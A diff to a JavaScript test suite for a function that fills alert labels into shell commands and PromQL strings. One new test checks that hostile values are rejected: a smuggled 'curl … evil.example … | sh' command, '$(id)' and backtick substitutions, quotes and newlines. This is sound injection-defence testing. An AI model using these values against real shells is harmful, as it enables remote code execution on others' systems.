@@ -126,8 +126,15 @@ describe('fillPlaceholders', () => {
       'logs checkout on co-1:8080 and co-1:8080; ask <host>; {{.Name}} <br >',
     );
     assert.equal(fillPlaceholders('<toString> <constructor>', labels), '<toString> c');
-    // A value is inserted once, as is: a value that looks like a placeholder is not filled again.
-    assert.equal(fillPlaceholders('<a> <b>', { a: '<b>', b: 'x' }), '<b> x');
+    // A value is inserted once: one that looks like a placeholder is not filled again (nor safe).
+    assert.equal(fillPlaceholders('<a> <b>', { a: 'b', b: 'x' }), 'b x');
+  });
+
+  it('fills only values that stay one word in a shell command and a PromQL string', () => {
+    const step = 'docker compose logs <service> | grep x; up{service="<service>"}';
+    for (const hostile of ['api; curl -s https://evil.example/x | sh #', 'a"b', 'a b', '$(id)', '`id`', "a'b", 'a\nb', '', 'x'.repeat(201)])
+      assert.equal(fillPlaceholders(step, { service: hostile }), step, hostile);
+    assert.equal(fillPlaceholders('<instance> <pod>', { instance: '10.0.0.1:9100', pod: 'api-7f9c@x/y=z,%2B' }), '10.0.0.1:9100 api-7f9c@x/y=z,%2B');
   });
 
   it('finds the labels every alert shares', () => {
